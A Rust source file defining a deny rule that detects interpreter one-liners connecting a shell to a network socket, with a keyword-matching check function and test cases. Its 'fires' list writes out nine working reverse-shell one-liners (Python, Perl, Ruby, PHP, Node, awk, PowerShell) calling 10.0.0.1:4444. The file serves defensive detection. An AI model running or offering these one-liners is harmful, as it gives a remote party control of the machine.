//! Interpreter one-liners that connect a socket to a shell: Python
//! `socket` + `subprocess`/`pty.spawn`/`os.dup2`, Perl `Socket` + `exec`,
//! Ruby `TCPSocket` + `exec`, PHP `fsockopen` + `exec`, Node `net` +
//! `child_process`, gawk `/inet/tcp`, PowerShell `TCPClient` + `iex`.
//!
//! Reads the code string: the IR does not parse other languages.

use crate::rules::prelude::*;
use crate::rules::shared::transfer::code_strings;

pub(crate) static RULE: Rule = Rule {
    code: "RAC004",
    name: "interpreter-socket-shell",
    category: Category::RemoteAccess,
    decision: Decision::Deny,
    commands: &["@code"],
    summary: "runs inline code that connects a shell to a socket",
    why: "A reverse or bind shell hands control of the machine to a remote party.",
    check,
    fires: &[
        "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])'",
        "python -c 'import socket,pty,os;s=socket.socket();s.connect((\"10.0.0.1\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"bash\")'",
        "perl -e 'use Socket;$i=\"10.0.0.1\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
        "ruby -rsocket -e 'f=TCPSocket.open(\"10.0.0.1\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
        "php -r '$sock=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
        "node -e \"var n=require('net'),c=require('child_process'),s=new n.Socket();s.connect(4444,'10.0.0.1',()=>{var sh=c.spawn('/bin/sh',[]);s.pipe(sh.stdin);sh.stdout.pipe(s)})\"",
        "awk 'BEGIN{s=\"/inet/tcp/0/10.0.0.1/4444\";while(1){s|&getline c;while((c|&getline)>0)print|&s;close(c)}}'",
        "python3 <<'EOF'\nimport socket,subprocess\ns=socket.socket();s.connect(('10.0.0.1',4444))\nsubprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno())\nEOF",
        "pwsh -c \"$c=New-Object Net.Sockets.TCPClient('10.0.0.1',4444);$s=$c.GetStream();iex ([text.encoding]::ASCII.GetString($b))\"",
    ],
    passes: &[
        "python3 -c 'import socket; print(socket.gethostname())'",
        "python3 -c 'import subprocess; subprocess.run([\"ls\"])'",
        "node -e \"require('child_process').execSync('git status')\"",
        "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
    ],
};

fn socket_shell(code: &str) -> bool {
    let c = code.to_ascii_lowercase();
    let socket = [
        "socket",
        "fsockopen",
        "tcpsocket",
        "tcpclient",
        "require('net')",
        "require(\"net\")",
        "net.connect",
        "net.createconnection",
        "/inet/tcp/",
        "/inet/udp/",
        "io::socket",
        "socket.tcp",
    ]
    .iter()
    .any(|p| c.contains(p));
    let connects = [".connect(", "connect(", "fsockopen", "tcpsocket.open", "tcpsocket.new", "tcpclient(", "/inet/", ".bind(", "listen(", "createconnection"]
        .iter()
        .any(|p| c.contains(p));
    let shell = [
        "subprocess",
        "pty.spawn",
        "os.dup2",
        "/bin/sh",
        "/bin/bash",
        "cmd.exe",
        "os.system",
        "popen",
        "child_process",
        "exec(",
        "exec ",
        "shell_exec",
        "proc_open",
        "passthru",
        "system(",
        "spawn(",
        "iex",
        "invoke-expression",
        "|&",
        "os.execute",
        "io.popen",
    ]
    .iter()
    .any(|p| c.contains(p));
    socket && connects && shell
}

fn check(cmd: &Command, _cx: &Context<'_>) -> Option<Hit> {
    code_strings(cmd).iter().any(|c| socket_shell(c)).then(|| Hit::command().with_message(format!("`{}` code connects a shell to a network socket", cmd.name)))
}
